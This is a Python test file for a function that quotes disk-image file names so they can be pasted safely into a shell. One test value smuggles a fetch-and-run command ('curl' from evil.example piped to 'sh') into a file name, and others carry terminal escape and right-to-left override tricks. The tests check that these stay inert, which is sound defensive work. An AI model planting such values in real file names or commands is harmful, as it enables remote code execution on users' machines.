"""A name from an image as one shell word an operator can paste (pure; bash checks the words it is given)."""

from __future__ import annotations

import os
import subprocess

import pytest

from cdisk.core.shell import shell_word

WORDS = [
    ("/image/podvm.qcow2", "/image/podvm.qcow2"),
    ("/my disks/vm.img", "'/my disks/vm.img'"),
    ("/img/$(curl -s evil.example|sh)/x.qcow2", "'/img/$(curl -s evil.example|sh)/x.qcow2'"),
    ("/x.qcow2, /y (qcow2, 1 MiB)", "'/x.qcow2, /y (qcow2, 1 MiB)'"),
    ("/it's.img", "'/it'\"'\"'s.img'"),
    ("/a b\n.qcow2", "$'/a b\\x0a.qcow2'"),
    ("/a\x1b]0;owned\x07.img", "$'/a\\x1b]0;owned\\x07.img'"),
    ("/caf\udce9.img", "$'/caf\\xe9.img'"),  # an undecodable byte, kept by Python as a lone surrogate
    ("/\u202egpj.img", "$'/\\xe2\\x80\\xaegpj.img'"),  # right-to-left override: shown, never acted on
    ("/q'\n\\$(x)", "$'/q\\'\\x0a\\\\$(x)'"),  # a quote and a backslash beside an escape
    ("", "''"),
]


@pytest.mark.parametrize(("name", "word"), WORDS)
def test_a_name_is_one_printable_word(name: str, word: str) -> None:
    assert shell_word(name) == word
    assert word.isprintable()


@pytest.mark.parametrize(("name", "word"), WORDS)
def test_bash_reads_the_word_as_the_very_name(name: str, word: str) -> None:
    # What pasting does: bash parses the word, runs nothing, and has the name's bytes as one argument.
    said = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True, env={})
    assert said.stdout == os.fsencode(name)
